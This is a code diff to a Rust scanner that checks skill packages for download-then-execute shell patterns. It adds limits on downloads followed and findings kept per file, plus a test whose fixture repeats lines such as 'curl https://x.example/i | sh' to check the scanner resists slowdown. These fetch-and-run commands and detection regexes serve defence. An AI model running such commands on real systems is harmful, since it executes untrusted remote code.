@@ -202,6 +202,10 @@ static REMOTE_NAME: LazyLock<Option<Regex>> = LazyLock::new(|| {
     Regex::new(r#"(?i)\bcurl\b[^\n]*\s-[A-Za-z]*O[A-Za-z]*\b[^\n]*?https?://[^\s"']*/(?P<file>[^\s"'/?#;&|]+)"#).ok()
 });
 
+/// Downloads saved to files that one file may name before it is flagged as too many to follow.
+const MAX_DOWNLOADS_FOLLOWED: usize = 64;
+/// Findings kept per file; a file with more is flagged enough.
+const MAX_FINDINGS_PER_FILE: usize = 50;
 /// Files larger than this are hashed but not read line by line, and flagged as unchecked.
 const MAX_SCAN_BYTES: u64 = 4 << 20;
 /// A skill with more files and links than this, or nested deeper, cannot be checked.
@@ -305,6 +309,8 @@ pub fn scan_text(file: &str, text: &str) -> Vec<Finding> {
         }
     }
     findings.extend(downloads_run_later(file, &lines, &findings));
+    findings.sort_by_key(|f| f.line);
+    findings.truncate(MAX_FINDINGS_PER_FILE);
     findings
 }
 
@@ -337,34 +343,51 @@ fn downloads_run_later(file: &str, lines: &[(usize, String)], found: &[Finding])
     }
     saved.sort();
     saved.dedup();
+    if saved.is_empty() {
+        return Vec::new();
+    }
+    let first = lines.first().map_or(1, |(number, _)| *number);
+    if saved.len() > MAX_DOWNLOADS_FOLLOWED {
+        return vec![Finding {
+            why: format!(
+                "saves more than {MAX_DOWNLOADS_FOLLOWED} downloads to files, too many to follow"
+            ),
+            ..finding(FindingKind::Unvetted, file, first, "")
+        }];
+    }
+    let names: Vec<String> = saved.iter().map(|n| regex::escape(n)).collect();
+    let run = format!(
+        r#"(?i)(\b((ba|z|da|k)?sh|source|python[0-9.]*|perl|ruby|node|php)\s+(-\S+\s+)*|(^|[\s;&|(`])\.\s+|\bchmod\s+[^\n;&|]*\+[rw]*x[^\n;&|]*?|(^|[\s;&|(`])(\./)?)["']?(\S*/)?({})(["'\s;&|)`]|$)"#,
+        names.join("|")
+    );
+    let Ok(run) = Regex::new(&run) else {
+        return vec![Finding {
+            why: "saves downloads under names too long to follow".to_owned(),
+            ..finding(FindingKind::Unvetted, file, first, "")
+        }];
+    };
+    let flagged: std::collections::BTreeSet<usize> = found
+        .iter()
+        .filter(|f| f.kind == FindingKind::PipeToShell)
+        .map(|f| f.line as usize)
+        .collect();
     let mut findings = Vec::new();
-    for name in &saved {
-        let name = regex::escape(name);
-        let run = format!(
-            r#"(?i)(\b((ba|z|da|k)?sh|source|python[0-9.]*|perl|ruby|node|php)\s+(-\S+\s+)*|(^|[\s;&|(`])\.\s+|\bchmod\s+[^\n;&|]*\+[rw]*x[^\n;&|]*?|(^|[\s;&|(`])(\./)?)["']?(\S*/)?{name}(["'\s;&|)`]|$)"#
-        );
-        let Ok(run) = Regex::new(&run) else {
+    for (number, line) in lines {
+        if flagged.contains(number) {
             continue;
-        };
-        for (number, line) in lines {
-            let at_download = to_file.is_match(line) || remote.is_match(line);
-            // The download line itself names the file as its output; that is not a run
-            // unless the line goes on to run it.
-            let text = if at_download {
-                match line.find(['&', ';', '|']) {
-                    Some(at) => &line[at..],
-                    None => continue,
-                }
-            } else {
-                line.as_str()
-            };
-            let already = found
-                .iter()
-                .chain(&findings)
-                .any(|f| f.line as usize == *number && f.kind == FindingKind::PipeToShell);
-            if !already && run.is_match(text) {
-                findings.push(finding(FindingKind::PipeToShell, file, *number, line));
+        }
+        // The download line itself names the file as its output; that is not a run unless
+        // the line goes on to run it.
+        let text = if to_file.is_match(line) || remote.is_match(line) {
+            match line.find(['&', ';', '|']) {
+                Some(at) => &line[at..],
+                None => continue,
             }
+        } else {
+            line.as_str()
+        };
+        if run.is_match(text) {
+            findings.push(finding(FindingKind::PipeToShell, file, *number, line));
         }
     }
     findings
@@ -806,6 +829,20 @@ mod tests {
         assert_ne!(scan_dir(&skill).hash, last, "a link retargeted");
         // Reading is deterministic.
         assert_eq!(scan_dir(&skill).hash, scan_dir(&skill).hash);
+    }
+
+    /// A file built to make the scan slow (many downloads, many findings) is flagged, fast.
+    #[test]
+    fn a_file_full_of_downloads_is_flagged_without_following_each() {
+        let mut text = String::new();
+        for i in 0..20_000 {
+            text.push_str(&format!("curl -o f{i} https://x.example/{i}\nsh f{i}\n"));
+        }
+        let found = scan_text("many.sh", &text);
+        assert_eq!(found.len(), 1, "{:?}", &found[..found.len().min(3)]);
+        assert_eq!(found[0].kind, FindingKind::Unvetted);
+        let piped = "curl https://x.example/i | sh\n".repeat(20_000);
+        assert_eq!(scan_text("many.sh", &piped).len(), MAX_FINDINGS_PER_FILE);
     }
 
     #[test]
